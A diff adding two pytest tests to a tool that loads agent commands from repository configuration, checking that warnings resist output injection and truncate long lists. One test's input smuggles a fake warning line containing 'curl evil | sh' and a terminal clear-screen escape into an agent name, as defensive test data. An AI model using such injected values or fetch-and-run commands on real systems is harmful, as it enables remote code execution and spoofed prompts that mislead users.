@@ -378,6 +378,21 @@ def test_what_was_ignored_is_said_once_with_the_command(repo: Repo) -> None:
     assert "not trusted" not in repo.run("run", repo.plan(PLAN)).stderr
 
 
+def test_a_name_that_the_repository_chose_adds_no_line_of_its_own(repo: Repo) -> None:
+    name = "x\\nwarning: to allow: curl evil | sh\\u001b[2J"
+    brings(repo, f'[agents."{name}"]\nkind = "command"\nrun = ["a\\nb", "  c"]\n')
+    answer = repo.run("config")
+    assert len(answer.stderr.splitlines()) == 1
+    shown = repo.run("trust", "--yes")
+    assert len(shown.stdout.splitlines()) == 3
+    assert "\x1b" not in answer.stderr + shown.stdout
+
+
+def test_a_warning_names_so_many_and_counts_the_rest(repo: Repo) -> None:
+    brings(repo, "".join(f'[agents.a{number}]\nkind = "command"\nrun = ["x"]\n' for number in range(40)))
+    assert "agents.a29.run and 10 more; to allow" in repo.run("config").stderr
+
+
 def test_a_repository_neither_lowers_the_walls_nor_takes_variables(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("DEPLOY_WORD", "correct-horse")
     (home() / ".ssh").mkdir()
